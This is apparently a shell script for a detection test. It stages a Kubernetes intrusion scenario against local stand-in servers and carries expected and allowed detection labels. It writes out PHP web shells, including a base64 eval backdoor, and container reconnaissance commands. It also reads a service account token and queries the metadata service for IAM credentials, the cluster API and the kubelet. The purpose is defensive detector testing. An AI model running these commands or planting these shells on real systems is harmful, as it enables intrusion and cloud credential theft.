# incident-web-shell-to-cluster: a web shell is planted and used; its pod's token, the cloud's keys, the cluster and a kubelet are asked for.
# shows: shells under the web server's program, the token's file in arguments, connections to the metadata service and to a kubelet
# outcome: the servers that answer are this machine's own
# label: malicious
# expects: [web-server-spawned-shell, web-shell-written, container-surroundings-explored, account-token-read, metadata-service-queried, cloud-identity-taken, cluster-api-called-from-container, kubelet-asked-directly]
# allows: [engine-socket-connected, host-namespaces-shared, command-executed-in-container, shell-opened-in-container, files-copied-with-engine, remote-script-piped-to-interpreter, downloaded-program-run, package-manager-run-in-container, container-surroundings-explored, network-scanned, shell-history-read, mounted-secrets-collected]
prepare() {
    . /lab/stand_ins.sh
    outside 169.254.169.254; outside 10.96.0.1
    cp /usr/bin/dash /srv/lab/server
    image_from shop/php:8 bin/php-fpm8.2=/srv/lab/server bin/apache2=/srv/lab/server /usr/bin/curl
    mkdir -p /srv/token && echo eyJhbGciOiJSUzI1NiJ9.e30.x >/srv/token/token && echo default >/srv/token/namespace
    mkdir -p /srv/meta/latest/meta-data/iam/security-credentials && echo node-role >/srv/meta/latest/meta-data/iam/security-credentials/index.html
    serve /srv/meta 80
    answer 10250; answer 6443; answer 10255
}
act() {
    if dev; then
        docker run --rm --network host -v /srv/token:/var/run/secrets/kubernetes.io/serviceaccount:ro shop/php:8 php-fpm8.2 -c '
            sh -c "mkdir -p /var/www/html; echo \"<?php system(\$_GET[1]); ?>\" >/var/www/html/a.php"
            sh -c "id; uname -a"
            sh -c "cat /proc/1/cgroup; ls -la /.dockerenv; cat /proc/self/status; mount; env; ps"
            sh -c "cat /var/run/secrets/kubernetes.io/serviceaccount/token"
            sh -c "curl -s -m 3 http://169.254.169.254/latest/meta-data/iam/security-credentials/"
            sh -c "curl -sk -m 3 https://10.96.0.1:6443/api/v1/namespaces"
            sh -c "curl -sk -m 3 https://127.0.0.1:10250/pods"; true'
    else
        docker run --rm --net host --mount type=bind,src=/srv/token,dst=/run/secrets/kubernetes.io/serviceaccount,readonly shop/php:8 apache2 -c '
            sh -c "printf \"<?php eval(base64_decode(\$_POST[9]));\" >>/tmp/index.php"
            sh -c "whoami"; sh -c "cat /etc/passwd"
            sh -c "cat /proc/self/mountinfo; test -e /.dockerenv; ls /var/run/docker.sock; hostname; ip addr; df; cat /etc/os-release"
            sh -c "TOKEN=$(cat /run/secrets/kubernetes.io/serviceaccount/token); wget -T 3 -q -O - --header \"Authorization: Bearer $TOKEN\" http://10.96.0.1:6443/api"
            sh -c "wget -T 3 -q -O - http://169.254.169.254/latest/meta-data/iam/security-credentials/node-role"
            sh -c "wget -T 3 -q -O - http://127.0.0.1:10255/pods"; true'
    fi
    true
}
restore() { . /lab/stand_ins.sh; answers_stop; docker rmi shop/php:8; rm -rf /srv/token; }
